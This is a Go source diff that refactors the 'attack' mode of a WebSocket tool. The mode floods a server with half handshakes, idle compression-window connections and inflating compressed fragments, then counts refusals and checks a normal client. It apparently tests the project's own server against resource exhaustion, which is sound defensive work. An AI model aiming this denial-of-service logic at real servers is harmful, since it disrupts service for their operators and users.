@@ -21,9 +21,6 @@ import (
 	"bytes"
 	"compress/flate"
 	"context"
-	"crypto/rand"
-	"encoding/base64"
-	"encoding/binary"
 	"errors"
 	"flag"
 	"fmt"
@@ -36,6 +33,7 @@ import (
 	"strings"
 	"time"
 
+	"wsraise/internal/rawpeer"
 	"wsraise/server"
 	"wsraise/wsproto"
 )
@@ -57,7 +55,7 @@ func main() {
 	case "serve":
 		err = serve(*addr)
 	case "attack":
-		err = attack(*addr, *idle, *conns, *half, *inflated)
+		_, err = attack(*addr, *idle, *conns, *half, *inflated)
 	default:
 		err = fmt.Errorf("unknown command %q", os.Args[1])
 	}
@@ -99,28 +97,6 @@ func serve(addr string) error {
 	return app.Server(nil).Serve(ln)
 }
 
-// frame is one masked client frame (RFC 6455 section 5.2), FIN clear.
-func frame(first byte, payload []byte) []byte {
-	b := []byte{first}
-	switch n := len(payload); {
-	case n < 126:
-		b = append(b, 0x80|byte(n))
-	case n < 1<<16:
-		b = append(b, 0x80|126)
-		b = binary.BigEndian.AppendUint16(b, uint16(n))
-	default:
-		b = append(b, 0x80|127)
-		b = binary.BigEndian.AppendUint64(b, uint64(n))
-	}
-	var key [4]byte
-	rand.Read(key[:])
-	b = append(b, key[:]...)
-	for i, c := range payload {
-		b = append(b, c^key[i%4])
-	}
-	return b
-}
-
 // handshake opens a connection and sends a handshake offering
 // permessage-deflate; with whole false it stops halfway.
 func handshake(addr string, whole bool) (net.Conn, *bufio.Reader, error) {
@@ -128,11 +104,7 @@ func handshake(addr string, whole bool) (net.Conn, *bufio.Reader, error) {
 	if err != nil {
 		return nil, nil, err
 	}
-	var key [16]byte
-	rand.Read(key[:])
-	req := "GET /ws HTTP/1.1\r\nHost: " + addr + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
-		"Sec-WebSocket-Key: " + base64.StdEncoding.EncodeToString(key[:]) + "\r\n" +
-		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
+	req := rawpeer.Request(addr, "/ws", rawpeer.NewKey(), "Sec-WebSocket-Extensions: permessage-deflate\r\n")
 	if !whole {
 		req = req[:len(req)/2]
 	}
@@ -157,18 +129,24 @@ func handshake(addr string, whole bool) (net.Conn, *bufio.Reader, error) {
 	return nc, br, nil
 }
 
-func attack(addr string, idle, conns, half, inflated int) error {
+// outcome counts how the server answered the stalled messages.
+type outcome struct{ refused, failed int }
+
+func attack(addr string, idle, conns, half, inflated int) (out outcome, err error) {
 	// With context takeover the second message's stream continues the
 	// first's: one flate writer makes both (RFC 7692 section 7.2.3.2).
 	var buf bytes.Buffer
 	fw, _ := flate.NewWriter(&buf, flate.BestCompression)
 	fw.Write([]byte("hello, window"))
 	fw.Flush()
-	hello := frame(0xC2, bytes.TrimSuffix(buf.Bytes(), []byte{0, 0, 0xff, 0xff})) // FIN, RSV1, binary
+	hello := rawpeer.Frame{Fin: true, RSV: rawpeer.RSV1, Op: rawpeer.OpBinary,
+		Payload: bytes.TrimSuffix(buf.Bytes(), []byte{0, 0, 0xff, 0xff})}.Mask().Encode()
 	buf.Reset()
 	fw.Write(make([]byte, inflated))
 	fw.Flush()
-	part := frame(0x42, buf.Bytes()) // RSV1 (compressed), binary, FIN clear
+	// RSV1: compressed (RFC 7692 section 6); FIN clear: more to come.
+	part := rawpeer.Frame{RSV: rawpeer.RSV1, Op: rawpeer.OpBinary, Payload: buf.Bytes()}.Mask().Encode()
+	ping := rawpeer.Ping([]byte("sync")).Mask().Encode()
 	var held []net.Conn
 	defer func() {
 		for _, nc := range held {
@@ -177,6 +155,7 @@ func attack(addr string, idle, conns, half, inflated int) error {
 	}()
 	start := time.Now()
 	var failed, refused int
+	defer func() { out = outcome{refused, failed} }()
 	for i := range idle + conns {
 		nc, br, err := handshake(addr, true)
 		if err != nil {
@@ -189,12 +168,10 @@ func attack(addr string, idle, conns, half, inflated int) error {
 		held = append(held, nc)
 		nc.Write(hello)
 		nc.SetReadDeadline(time.Now().Add(30 * time.Second))
-		var h [2]byte
-		if _, err := io.ReadFull(br, h[:]); err != nil || h[0]&0x0f != 0x1 {
+		if f, err := rawpeer.ReadFrame(br); err != nil || f.Op != rawpeer.OpText { // "13"
 			failed++
 			continue
 		}
-		io.CopyN(io.Discard, br, int64(h[1]&0x7f)) // "13"
 		if i < idle {
 			continue // idle from now on, its window kept by the server
 		}
@@ -204,17 +181,16 @@ func attack(addr string, idle, conns, half, inflated int) error {
 		}
 		// A ping after the part: its pong says the server read it; a
 		// close frame says it refused the message (1013).
-		nc.Write(frame(0x89, []byte("sync")))
+		nc.Write(ping)
 		nc.SetReadDeadline(time.Now().Add(30 * time.Second))
-		var hdr [2]byte
-		if _, err := io.ReadFull(br, hdr[:]); err != nil {
+		f, err := rawpeer.ReadFrame(br)
+		if err != nil {
 			failed++
 			continue
 		}
-		if hdr[0]&0x0f == 0x8 {
+		if f.Op == rawpeer.OpClose {
 			refused++
 		}
-		io.CopyN(io.Discard, br, int64(hdr[1]&0x7f))
 		if (i+1)%1000 == 0 {
 			fmt.Printf("%d connections, %d refused with a close, %d failed, %v\n", i+1, refused, failed, time.Since(start).Round(time.Second))
 		}
@@ -235,19 +211,19 @@ func attack(addr string, idle, conns, half, inflated int) error {
 	defer cancel()
 	c, _, err := wsproto.Dial(ctx, "ws://"+addr+"/ws", nil)
 	if err != nil {
-		return fmt.Errorf("normal client: %w", err)
+		return out, fmt.Errorf("normal client: %w", err)
 	}
 	defer c.CloseNow()
 	if err := c.Write(ctx, wsproto.MessageText, []byte("hello")); err != nil {
-		return fmt.Errorf("normal client: %w", err)
+		return out, fmt.Errorf("normal client: %w", err)
 	}
 	_, p, err := c.Read(ctx)
 	if err != nil {
-		return fmt.Errorf("normal client: %w", err)
+		return out, fmt.Errorf("normal client: %w", err)
 	}
 	if string(p) != "5" {
-		return errors.New("normal client: got " + strconv.Quote(string(p)))
+		return out, errors.New("normal client: got " + strconv.Quote(string(p)))
 	}
 	fmt.Println("normal client served:", strings.TrimSpace(string(p)))
-	return nil
+	return out, nil
 }
